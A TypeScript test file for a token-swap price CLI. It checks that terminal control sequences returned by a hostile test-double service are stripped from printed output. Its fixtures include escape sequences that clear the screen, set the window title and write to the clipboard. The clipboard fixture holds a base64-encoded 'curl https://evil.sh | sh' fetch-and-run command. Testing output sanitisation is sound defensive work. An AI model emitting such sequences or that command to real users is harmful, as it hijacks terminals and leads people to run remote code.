/* eslint-disable no-control-regex -- the tests look for control characters in the output */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allowanceHolderPriceBody } from '../spec/test-fixtures.ts';
import { AppError } from '../ipc/result.ts';
import { reportError } from './compare-run.ts';
import { startScriptedService, type ScriptedService } from './scripted-service.ts';
import { inProcess as cli } from './test-support.ts';

// price and compare against a test-double HTTPS service whose error messages, source labels and
// token symbols carry terminal control sequences: clear screen, window title, OSC 52 clipboard.

const ESC = '\u001b';
const CLEAR = `${ESC}[2J${ESC}[3J${ESC}c`;
const TITLE = `${ESC}]0;you have been owned\u0007`;
const CLIPBOARD = `${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuc2ggfCBzaA==${ESC}\\`;
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let service: ScriptedService;

function hostilePrice(): Record<string, unknown> {
  const body = allowanceHolderPriceBody();
  const route = body.route as { fills: { source: string }[]; tokens: { symbol: string }[] };
  route.fills[0]!.source = `Uniswap${CLIPBOARD}V3`;
  route.tokens[0]!.symbol = `USDC${TITLE}`;
  return body;
}

beforeAll(async () => {
  service = await startScriptedService('Hostile', (req, res) => {
    res.writeHead(req.url?.startsWith('/swap/permit2/') ? 400 : 200, { 'content-type': 'application/json' });
    if (!req.url?.startsWith('/swap/permit2/')) return res.end(JSON.stringify(hostilePrice()));
    res.end(JSON.stringify({ name: `INPUT_INVALID${CLEAR}`, message: `${CLEAR}${TITLE}${CLIPBOARD}sellAmount is too large`, data: { zid: '0x111111111111111111111111', details: [] } }));
  });
});
afterAll(() => service.close());

describe('service text printed by price and compare', { timeout: 60_000 }, () => {
  const args = () => ['--sell', 'USDC', '--buy', 'WETH', '--amount', '10', '--profile', 'Hostile', '--data-dir', service.dir];

  it('price: an error message is printed readable and without control sequences', async () => {
    const ran = await cli(['price', '--chain', '1', '--model', 'permit2', ...args()]);
    expect(ran.stdout + ran.stderr).toContain('sellAmount is too large');
    expect(ran.stdout).not.toMatch(CONTROLS);
    expect(ran.stderr).not.toMatch(CONTROLS);
  });

  it('price: source labels and symbols lose their control sequences in the table and are escaped in JSON', async () => {
    const table = await cli(['price', '--chain', '1', ...args()]);
    expect(table.stdout).toContain('UniswapV3');
    expect(table.stdout).not.toMatch(CONTROLS);
    const json = await cli(['price', '--chain', '1', '--format', 'json', ...args()]);
    expect(json.stdout).not.toMatch(CONTROLS);
    const body = JSON.parse(json.stdout) as { route: { fills: { source: string }[] } };
    expect(body.route.fills[0]!.source).toBe(`Uniswap${CLIPBOARD}V3`);
  });

  it('compare: table, CSV and JSON carry no control sequences', async () => {
    for (const format of ['table', 'csv', 'json']) {
      const ran = await cli(['compare', '--chains', '1,8453', '--format', format, ...args()]);
      expect(ran.stdout.length).toBeGreaterThan(0);
      // CSV ends its lines with \r\n (RFC 4180); nothing else may be a control character.
      expect(ran.stdout.replaceAll('\r\n', '\n')).not.toMatch(CONTROLS);
      expect(ran.stderr).not.toMatch(CONTROLS);
    }
  });
});

describe('error lines of every command', () => {
  it('an app error whose message carries a service\'s control sequences is printed readable without them', () => {
    let stderr = '';
    const code = reportError('price', new AppError('REMOTE_ERROR', `${CLEAR}${TITLE}${CLIPBOARD}the service refused`), 'usage', { stdout: () => {}, stderr: (text) => (stderr += text) });
    expect(code).toBe(1);
    expect(stderr).toBe('swap-explorer price: the service refused\n');
  });
});
